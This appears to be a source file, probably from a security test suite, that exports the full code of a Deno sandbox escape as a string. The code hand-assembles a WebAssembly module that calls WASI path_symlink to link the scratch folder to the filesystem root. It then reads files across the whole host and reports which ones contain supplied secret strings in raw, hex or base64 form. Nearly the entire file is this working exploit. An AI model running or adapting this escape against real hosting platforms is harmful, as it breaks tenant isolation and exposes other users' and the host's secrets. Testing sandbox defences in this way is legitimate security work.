/**
 * The code of a function that leaves Deno's file sandbox: WebAssembly makes a symbolic link in the scratch folder by
 * `path_symlink` of node:wasi, which leads to the root folder. A call with `{needles}`, texts in hexadecimal, answers
 * what the function could read: `files`, and of them `found`, those in which one of the needles is, raw, in hexadecimal or base64.
 */
export const FILE_ESCAPE = `
  import { Buffer } from "node:buffer";
  import { WASI } from "node:wasi";

  const number = (n) => {
    for (const bytes = []; ; n >>= 7) {
      if (n < 64) return [...bytes, n];
      bytes.push((n & 127) | 128);
    }
  };
  const vector = (items) => [...number(items.length), ...items.flat()];
  const text = (string) => vector([...Buffer.from(string)]);
  const section = (id, body) => [id, ...number(body.length), ...body];
  const constant = (n) => [0x41, ...number(n)];

  /** A module that makes the link and traps if it cannot; it has the target at 0 and the link's name at 1024. */
  function linker(target, name) {
    const [i32, at] = [0x7f, 1024];
    const call = [0, target.length, 3, at, name.length].flatMap(constant);
    const body = [0, ...call, 0x10, 0, 0x04, 0x40, 0x00, 0x0b, 0x0b];
    const data = [[0, target], [at, name]].map(([where, string]) => [0, ...constant(where), 0x0b, ...text(string)]);
    return Uint8Array.from([
      ...[0x00, 0x61, 0x73, 0x6d, 1, 0, 0, 0],
      ...section(1, vector([[0x60, ...vector([i32, i32, i32, i32, i32]), ...vector([i32])], [0x60, 0, 0]])),
      ...section(2, vector([[...text("wasi_snapshot_preview1"), ...text("path_symlink"), 0, 0]])),
      ...section(3, vector([[1]])),
      ...section(5, vector([[0, 1]])),
      ...section(7, vector([[...text("memory"), 2, 0], [...text("_start"), 0, 1]])),
      ...section(10, vector([vector(body)])),
      ...section(11, vector(data)),
    ]);
  }

  const scratch = Deno.env.get("TMPDIR");
  const wasi = new WASI({ version: "preview1", preopens: { "/scratch": scratch } });
  const { instance } = await WebAssembly.instantiate(linker("/", "root"), wasi.getImportObject());
  wasi.start(instance);

  /** What Deno checks by itself even behind a link, and what is the same in every pod. */
  const SKIPPED = ["/proc", "/sys", "/dev", "/usr"];

  function* filesIn(folder) {
    let entries;
    try {
      entries = [...Deno.readDirSync(scratch + "/root" + folder)];
    } catch {
      return;
    }
    for (const { name, isDirectory, isFile } of entries) {
      const path = (folder === "/" ? "" : folder) + "/" + name;
      if (isFile) yield path;
      else if (isDirectory && !SKIPPED.includes(path)) yield* filesIn(path);
    }
  }

  export default async (request) => {
    const { needles } = await request.json();
    const raw = needles.map((needle) => Buffer.from(needle, "hex"));
    const texts = raw.flatMap((each) => ["latin1", "hex", "base64", "base64url"].map((form) => each.toString(form)));
    const [files, found] = [[], []];
    for (const path of filesIn("/")) {
      let content;
      try {
        content = Buffer.from(Deno.readFileSync(scratch + "/root" + path)).toString("latin1");
      } catch {
        continue;
      }
      files.push(path);
      if (texts.some((each) => content.includes(each))) found.push(path);
    }
    return { files, found };
  };`;
